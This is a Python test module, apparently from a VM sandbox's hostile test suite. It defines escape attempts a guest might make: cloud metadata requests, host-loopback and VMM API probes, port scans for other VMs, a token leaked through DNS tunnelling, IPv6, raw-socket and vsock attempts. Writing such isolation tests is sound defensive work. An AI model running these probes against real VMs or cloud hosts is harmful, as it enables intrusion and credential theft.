"""Case 23: what a VM, or a submission in it, may try to reach."""

from __future__ import annotations

from tests.hostile.attack import SUCCEEDED, Attack, Control, Facts
from tests.hostile.world import (
    ABROAD,
    DNS,
    HTTP,
    LOOPBACK,
    METADATA,
    METADATA_6,
    NEIGHBOUR,
    RESOLVER,
)

_SHARED = Control(
    "network of a VM",
    "the VM shares the VMM's network, which is the run's own namespace: all that is there to reach are traps",
)

_REACH = """
import os, socket
def say(*words):
    print(*words, flush=True) if "tell" not in globals() else tell(*words)
def ask(host, port, family=socket.AF_INET):
    answer = b""
    try:
        with socket.socket(family, socket.SOCK_STREAM) as to:
            to.settimeout(2)
            to.connect((host, port))
            to.sendall(b"GET /@TOKEN@ HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")
            while more := to.recv(400):
                answer += more
    except OSError as error:
        say(host, port, error)
    if answer:
        say(host, port, "answered", answer.decode("latin-1"))
def send(host, port, family=socket.AF_INET):
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as to:
            to.settimeout(1)
            question = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"
            question += b"\\x14@TOKEN@\\x07example\\x00\\x00\\x01\\x00\\x01"
            to.sendto(question, (host, port))
            say(host, port, "answered", to.recv(400))
    except OSError as error:
        say(host, port, error)
"""
_RAW = """
import ctypes, socket, time
held = []
for family, kind, protocol in ((2, 3, 1), (2, 3, 255), (17, 3, 768), (10, 3, 58)):
    try:
        held.append(socket.socket(family, kind, protocol))
    except OSError as error:
        print(family, error)
time.sleep(1.5)
"""
_VSOCK = """
import fcntl, socket, struct
try:
    made = socket.socket(40, socket.SOCK_STREAM)
except OSError as error:
    tell("no vsock:", error)
else:
    tell("@TOKEN@ vsock made", made.family)
"""


def _asks(*targets: str) -> str:
    return _REACH + "\n".join(targets) + "\n"


def _trapped(facts: Facts) -> bool:
    return bool(facts.trapped)


def _attack(name: str, clause: str, program: str) -> Attack:
    return Attack(name, 23, clause, "challenge", program, _SHARED, _trapped, outcomes=SUCCEEDED)


NETWORK = [
    _attack(
        "cloud metadata",
        "metadata",
        _asks(f'ask("{METADATA}", {HTTP})', f'ask("100.100.100.200", {HTTP})'),
    ),
    _attack(
        "the host's loopback",
        "host-loopback",
        _asks(f'ask("10.0.2.2", {LOOPBACK})', f'ask("127.0.0.1", {LOOPBACK})', f'ask("10.0.2.2", {HTTP})'),
    ),
    Attack(
        "other VMs",
        23,
        "other-vms",
        "challenge",
        _asks(
            "import time",
            "for _ in range(4):",
            "    for port in range(@FIRST_PORT@, @FIRST_PORT@ + 40):",
            "        for host in ('127.0.0.1', '10.0.2.2'):",
            "            ask(host, port)",
            "    time.sleep(1)",
        ),
        _SHARED,
        lambda facts: "answered HTTP/1.1" in facts.logs,
        outcomes=SUCCEEDED,
        payload={"victim": "8"},
    ),
    Attack(
        "the VMM's API",
        23,
        "vmm-api",
        "challenge",
        _asks("for host in ('10.0.2.2', '127.0.0.1', '10.0.2.3'):", "    ask(host, @VMM_PORT@)"),
        _SHARED,
        lambda facts: "answered HTTP/1.1" in facts.logs,
        outcomes=SUCCEEDED,
    ),
    _attack(
        "DNS tunnelling",
        "dns-tunnel",
        _asks(*(f'send("{host}", {DNS})' for host in (RESOLVER, "10.0.2.3", "10.0.2.2", "127.0.0.1"))),
    ),
    _attack(
        "IPv6",
        "ipv6",
        _asks(
            f'ask("{METADATA_6}", {HTTP}, socket.AF_INET6)',
            f'ask("::1", {LOOPBACK}, socket.AF_INET6)',
            f'send("::1", {DNS}, socket.AF_INET6)',
        ),
    ),
    _attack(
        "hosts of the neighbourhood and abroad",
        "no-way-out",
        _asks(f'ask("{NEIGHBOUR}", {HTTP})', f'ask("{ABROAD}", {HTTP})', f'ask("{ABROAD}", {LOOPBACK})'),
    ),
    Attack(
        "raw sockets",
        23,
        "raw-sockets",
        "submission",
        _RAW,
        Control("capabilities", "all capabilities over the run's own, empty network"),
        lambda facts: facts.guest.raw_sockets > 0,
        outcomes=SUCCEEDED,
        watched=True,
    ),
    Attack(
        "vsock to the hypervisor",
        23,
        "raw-sockets",
        "challenge",
        _VSOCK,
        Control("system calls of a VM", "no system call filter in the VM"),
        lambda facts: "vsock made" in facts.logs,
        outcomes=SUCCEEDED,
    ),
    Attack(
        "the validator's own listener, from a submission",
        23,
        "validator-listener",
        "submission",
        _asks('ask("10.0.2.2", @GUEST_PORT@)', 'ask("127.0.0.1", 10000)', 'ask("10.0.2.15", 10000)'),
        Control("network of its own", "the run shares the VM's network"),
        lambda facts: "answered HTTP/1.1" in facts.logs,
        outcomes=SUCCEEDED,
    ),
]
